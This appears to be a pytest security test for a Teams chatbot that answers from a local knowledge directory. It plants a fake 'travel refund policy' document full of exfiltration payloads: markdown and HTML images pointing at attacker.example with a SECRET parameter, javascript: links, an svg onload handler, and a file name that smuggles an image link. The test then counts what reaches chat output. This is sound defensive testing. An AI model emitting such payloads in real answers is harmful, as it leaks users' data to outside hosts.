"""Hostile documents in KNOWLEDGE_DIR answered by the local backend: what reaches Teams (text and citation
entities). A CommonMark renderer (attack/.mdit, see exfil_markdown.py) counts images from attacker.example.

Run: .venv/bin/python -m pytest attack/test_hostile_knowledge.py -q -s -p no:cacheprovider
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent / ".mdit"))

from markdown_it import MarkdownIt  # noqa: E402

PIXEL = "https://attacker.example/p.png?d=SECRET"
DOC = f"""# Travel refund policy

The travel refund policy pays trains and planes. ![s](https://attacker.example/p.png?d=(SECRET))

Refund policy for travel: ![a [b] c]({PIXEL}) and ![s]({PIXEL} 't') and <img src="{PIXEL}">.

Travel refund: [click](javascript:alert(1)) and [r]: {PIXEL} ![s][r]

> [r]: {PIXEL}

Travel refund policy details ![x](<{PIXEL}>) <a href="{PIXEL}">link</a> <svg onload=x>
"""


async def test_hostile_document(start_bot, tmp_path):
    (tmp_path / "travel-refund.md").write_text(DOC)
    (tmp_path / "x)![y](https:attacker.example p.png).md").write_text(DOC)
    bot = await start_bot(backend="local", knowledge_dir=tmp_path)
    channel = bot.channel()
    for shape in ("personal", "groupChat"):
        channel = bot.channel(shape=shape)
        before = len(bot.connector.messages())
        await bot.post(channel.message("what is the travel refund policy?"))
        await bot.settle()
        for call in (
            bot.connector.calls[before:] if hasattr(bot.connector, "calls") else bot.connector.messages()[before:]
        ):
            body = json.dumps(call.body)
            html = MarkdownIt("commonmark").render(call.body.get("text") or "")
            print(shape, "images:", html.count('<img src="https://attacker'), "| raw <img in body:", body.count("<img"),
                  "| javascript: links:", html.count('href="javascript'))  # fmt: skip
            print("   text:", (call.body.get("text") or "")[:600].replace("\n", " ⏎ "))
